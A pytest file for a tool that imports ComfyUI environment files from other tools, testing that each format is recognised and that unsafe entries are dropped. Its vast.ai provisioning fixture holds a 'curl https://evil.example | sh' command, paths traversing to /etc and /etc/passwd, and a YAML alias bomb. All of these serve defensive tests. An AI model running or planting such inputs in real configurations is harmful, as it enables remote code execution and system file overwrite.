"""Files of other tools as manifests: recognised by what they hold, each read, and what cannot be had told."""

from __future__ import annotations

import json
from typing import Any

import pytest
import yaml

from app.protocol.manifest import ManifestFault
from app.protocol.other_files.comfy_build import write_build
from app.protocol.other_files.read import OtherFile, read_file
from test.lock.test_forms import HASH

SCHEMES = ("https", "ssh")
ONE, TWO = "https://github.com/owner/One", "https://github.com/owner/Two"
MODEL = "https://huggingface.co/o/r/resolve/main/ae.safetensors"
AE = {"name": "ae.safetensors", "folder": "vae", "url": MODEL, "sha256": None}
Json = dict[str, Any]

DESKTOP_INNER: Json = {
    "version": 1,
    "createdAt": "2026-06-01T10:00:00Z",
    "comfyui": {"ref": "master", "commit": "c" * 40, "releaseTag": "v0.33.0"},
    "customNodes": [
        {"id": "one", "type": "git", "dirName": "my-one", "enabled": True, "commit": HASH, "url": ONE},
        {"id": "two", "type": "git", "dirName": "Two", "enabled": False, "commit": HASH, "url": TWO},
        {"id": "x.py", "type": "file", "dirName": "x.py", "enabled": True},
    ],
    "pipPackages": {"numpy": "2.1.3"},
    "pythonVersion": "3.12.9",
}
OLDER: Json = {"createdAt": "2026-05-01T10:00:00Z", "customNodes": []}
DESKTOP: Json = {"type": "comfyui-desktop-2-snapshot", "version": 2, "snapshots": [OLDER, DESKTOP_INNER]}
BUILD: Json = {
    "schema": "comfy-build/1",
    "name": "mine",
    "definition": {
        "schema": "distribution-definition/0",
        "baseComfyVersion": "v0.33.0",
        "models": [{"type": "vae", "filename": "ae.safetensors", "sourceUri": MODEL}],
        "customNodes": [
            {"name": "One", "repository": ONE, "gitRef": HASH},
            {"name": "uploaded", "blobId": "abc"},
            {"name": "local", "source": "local", "localPath": "custom_nodes/local"},
        ],
        "pipDependencies": "# frozen\ntimm==1.0.9\n",
        "environment": {"pythonVersion": "3.12", "torch": "2.9.1"},
    },
}
DEPS: Json = {"custom_nodes": {ONE: {"state": "not-installed", "hash": "-"}}, "unknown_nodes": ["Foo"]}
LOCK_YAML: Json = {
    "models": [{"model": "ae", "url": MODEL, "paths": [{"path": "models/vae/ae.safetensors"}]}],
    "custom_nodes": {"comfyui": "c" * 40, "git_custom_nodes": {ONE: {"hash": HASH, "disabled": False}}},
}
COMFY_PACK: Json = {
    "python": "3.12.3",
    "comfyui": "c" * 40,
    "models": [{"filename": "models/vae/ae.safetensors", "source": {"download_url": MODEL}}],
    "custom_nodes": [
        {"url": ONE, "commit_hash": HASH, "disabled": False},
        {"url": TWO, "commit_hash": HASH, "disabled": True},
    ],
}
MACHINE: Json = {
    "comfyui": "c" * 40,
    "steps": [
        {"id": "1", "type": "custom-node", "data": {"name": "One", "url": ONE, "hash": HASH, "pip": ["timm"]}},
        {"id": "2", "type": "commands", "data": "RUN apt-get install -y ffmpeg"},
    ],
}
PROVISIONING: Json = {
    "version": 1,
    "apt_packages": ["ffmpeg"],
    "git_repos": [
        {"url": ONE, "dest": "${WORKSPACE:-/workspace}/ComfyUI/custom_nodes/mine", "ref": "${REF:-main}"},
        {"url": TWO, "dest": "/workspace/Two", "post_commands": ["make"]},
        {"url": "${MINE}", "dest": "/workspace/ComfyUI/custom_nodes/x"},
        {"url": TWO, "dest": "/workspace/ComfyUI/custom_nodes/../../etc"},
    ],
    "pip_packages": {"packages": ["timm"]},
    "downloads": [{"url": MODEL, "dest": "/workspace/ComfyUI/models/vae/"}, {"url": MODEL, "dest": "/etc/passwd"}],
    "post_commands": ["curl https://evil.example | sh"],
}


def read(value: object) -> OtherFile:
    return read_file(value, SCHEMES)


def reasons(found: OtherFile) -> str:
    return "\n".join(f"{each['name']}: {each['reason']}" for each in found.left_out)


def packs(found: OtherFile) -> list[tuple[str, str | None]]:
    """Folder and version of each."""
    manifest = found.manifest or {}
    if "lock" in manifest:
        return [(pack["folder"], pack["commit"]) for pack in manifest["lock"]["node_packs"]]
    return [(node["name"], node["ref"]) for node in manifest.get("nodes", ())]


FILES: dict[str, tuple[Json, str, list[tuple[str, str | None]]]] = {
    "Desktop's envelope": (DESKTOP, "desktop_snapshot", [("my-one", HASH), (".disabled/Two", HASH)]),
    "Desktop's envelope of version 1": (
        {**DESKTOP, "version": 1},
        "desktop_snapshot",
        [("my-one", HASH), (".disabled/Two", HASH)],
    ),
    "Desktop's inner object": (DESKTOP_INNER, "desktop_snapshot", [("my-one", HASH), (".disabled/Two", HASH)]),
    "comfy-build.yaml": (BUILD, "comfy_build", [("One", HASH)]),
    "deps.json": (DEPS, "deps", [("One", None)]),
    "comfy-lock.yaml": (LOCK_YAML, "comfy_lock", [("One", HASH)]),
    "comfy-pack's snapshot": (COMFY_PACK, "comfy_pack", [("One", HASH), (".disabled/Two", HASH)]),
    "ComfyDeploy's machine": (MACHINE, "comfy_deploy", [("One", HASH)]),
    "vast.ai's provisioning.yaml": (PROVISIONING, "provisioning", [("mine", "main")]),
}
WRITERS = {
    "object": lambda value: value,
    "JSON": json.dumps,
    "YAML": lambda value: yaml.safe_dump(value, sort_keys=False),
}


@pytest.mark.parametrize(("value", "kind", "expected"), FILES.values(), ids=FILES.keys())
@pytest.mark.parametrize("write", WRITERS.values(), ids=WRITERS.keys())
def test_each_file_is_known_by_what_it_holds(value: Json, kind: str, expected: list[Any], write: Any) -> None:
    found = read(write(value))
    assert (found.kind, packs(found)) == (kind, expected)


LEFT_OUT = {
    "Desktop's envelope": ("x.py: It is a single file",),
    "comfy-build.yaml": ("uploaded: It was uploaded", "local: It is a folder of the machine"),
    "deps.json": ("Foo: comfy-cli knew no node pack",),
    "ComfyDeploy's machine": ("Step 2: RUN apt-get install -y ffmpeg: It is a command", "timm"),
    "vast.ai's provisioning.yaml": (
        "apt_packages: ffmpeg: System packages are not installed",
        "It is cloned to /workspace/Two",
        "${MINE}: It has a variable",
        "It is cloned to /workspace/ComfyUI/custom_nodes/../../etc",
        "Python packages: timm",
        "It is a file for /etc/passwd, and no model",
        "post_commands: curl https://evil.example | sh: Commands of files are never run",
    ),
}


@pytest.mark.parametrize(("name", "texts"), LEFT_OUT.items(), ids=LEFT_OUT.keys())
def test_what_is_left_out_is_told_with_what_to_do(name: str, texts: tuple[str, ...]) -> None:
    said = reasons(read(FILES[name][0]))
    assert [text for text in texts if text not in said] == []


def test_the_versions_that_a_file_was_made_with_are_told_and_not_applied() -> None:
    for value in (DESKTOP, BUILD, COMFY_PACK):
        text = " ".join(read(value).remarks)
        assert "It was made with Python 3.12" in text
        assert "The machine keeps its own" in text
    assert "The file has 2 snapshots; the newest was taken (2026-06-01T10:00:00Z)" in " ".join(read(DESKTOP).remarks)


def test_a_disabled_pack_is_in_no_build() -> None:
    off = {"name": "Two", "repo_url": TWO, "folder": ".disabled/Two", "commit": HASH, "disabled": True}
    text, told = write_build({"node_packs": [off], "packages": {}}, "mine")
    assert "Two" not in text
    assert "Disabled node packs are not in it: Two." in told


def test_models_are_listed_with_folder_and_address() -> None:
    for value in (BUILD, LOCK_YAML, COMFY_PACK, PROVISIONING):
        (model,) = read(value).models
        assert {**model, "name": "ae.safetensors"} == AE


def test_packages_stand_in_the_lock_where_every_pack_has_its_commit() -> None:
    assert (read(DESKTOP).manifest or {})["lock"]["packages"] == {"numpy": "2.1.3"}
    assert (read(BUILD).manifest or {})["lock"]["packages"] == {"timm": "1.0.9"}


def test_models_alone_are_told_and_nothing_is_installed() -> None:
    found = read({"version": 1, "downloads": PROVISIONING["downloads"]})
    assert (found.manifest, found.models) == (None, [AE])
    with pytest.raises(ManifestFault, match=r"It names 1 model files, which are not fetched"):
        found.to_install("manifest.file")


BROKEN: dict[str, tuple[str, str, str]] = {
    "a list that is none": (
        "version: 1\ngit_repos:\n  url: x\n", "manifest.file.git_repos", "Line 2: git_repos is not a list"),
    "an entry that is no object": (
        json.dumps({**BUILD, "definition": {"customNodes": [{"name": "a", "blobId": "b"}, 3]}}, indent=1),
        "manifest.file.definition.customNodes[1]", "Line 10: An entry of customNodes is not an object"),
    "another schema": (
        "schema: comfy-build/9\ndefinition: {}\n", "manifest.file.schema", "Line 1: The schema is comfy-build/9"),
    "another version": ("git_repos: []\nversion: 7\n", "manifest.file.version", "Line 2: The version is 7"),
    "a type that nobody knows": (
        json.dumps({**DESKTOP, "snapshots": [{"customNodes": [{"type": "zip", "id": "a"}]}]}),
        "manifest.file.snapshots[0].customNodes[0].type", "A node pack's type is 'zip'"),
    "no snapshot": (json.dumps({**DESKTOP, "snapshots": []}), "manifest.file.snapshots", "The file has no snapshot"),
    "no YAML": ("git_repos: [\n", "manifest.file", "line 2"),
    "something else": ("a: 1\n", "manifest.file", "This is no file that Nodeferry reads"),
}  # fmt: skip


@pytest.mark.parametrize(("text", "field", "message"), BROKEN.values(), ids=BROKEN.keys())
def test_a_half_broken_file_is_refused_with_its_field_and_line(text: str, field: str, message: str) -> None:
    with pytest.raises(ManifestFault) as fault:
        read(text)
    assert fault.value.field == field
    assert message in fault.value.message


def test_a_pack_at_a_branch_keeps_it_and_one_without_has_its_newest() -> None:
    nodes = [{"name": "One", "repository": ONE, "gitRef": "v1.2"}, {"name": "Two", "repository": TWO}]
    assert packs(read({"schema": "comfy-build/1", "definition": {"customNodes": nodes}})) == [
        ("One", "v1.2"),
        ("Two", None),
    ]


def test_anchors_cannot_make_a_short_file_grow() -> None:
    """Each alias counts as what it stands for."""
    bomb = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{name}: &{name} [{','.join([f'*{before}'] * 10)}]\n"
        for before, name in zip("abcdefg", "bcdefgh", strict=True)
    )
    with pytest.raises(ManifestFault, match="more than a snapshot can have"):
        read(bomb + "git_repos: *h\n")


def test_a_login_in_an_address_is_left_out() -> None:
    token = "ghp_" + "a1B2" * 9
    repository = {"url": f"https://me:{token}@github.com/o/p", "dest": "/w/custom_nodes/p"}
    download = {"url": f"https://civitai.com/api/download/models/1?token={token}", "dest": "/w/models/vae/"}
    found = read({"git_repos": [repository], "downloads": [download]})
    assert token not in json.dumps([found.manifest, found.models, found.left_out, found.remarks])
    assert packs(found) == [("p", None)]


IMPACT = {"name": "comfyui-impact-pack", "folder": "comfyui-impact-pack", "registry_id": "comfyui-impact-pack"}


def test_packs_of_the_registry_stand_in_the_lock_by_their_version() -> None:
    """Desktop's and comfy-build's; without a version they are in a list, and are the newest."""
    cnr = {"id": "comfyui-impact-pack", "type": "cnr", "dirName": "x", "enabled": True, "version": "8.1.0"}
    desktop = {**DESKTOP_INNER, "customNodes": [*DESKTOP_INNER["customNodes"][:1], cnr]}
    node = {"name": "Impact", "id": "comfyui-impact-pack", "registryVersion": "8.1.0"}
    build = {"schema": "comfy-build/1", "definition": {"customNodes": [node]}}
    for value in (desktop, build):
        assert (read(value).manifest or {})["lock"]["node_packs"][-1] == {**IMPACT, "version": "8.1.0"}
    newest = read({**DESKTOP_INNER, "customNodes": [{**cnr, "version": ""}]}).manifest or {}
    assert newest["nodes"] == [{"name": "comfyui-impact-pack", "registry_id": "comfyui-impact-pack"}]


def test_a_registry_pack_of_a_lock_is_written_by_its_version() -> None:
    lock = {"node_packs": [{**IMPACT, "version": "8.1.0"}], "packages": {}}
    text, told = write_build(lock, "mine")
    again = (read(text).manifest or {})["lock"]
    assert (again["node_packs"], told) == (lock["node_packs"], [])
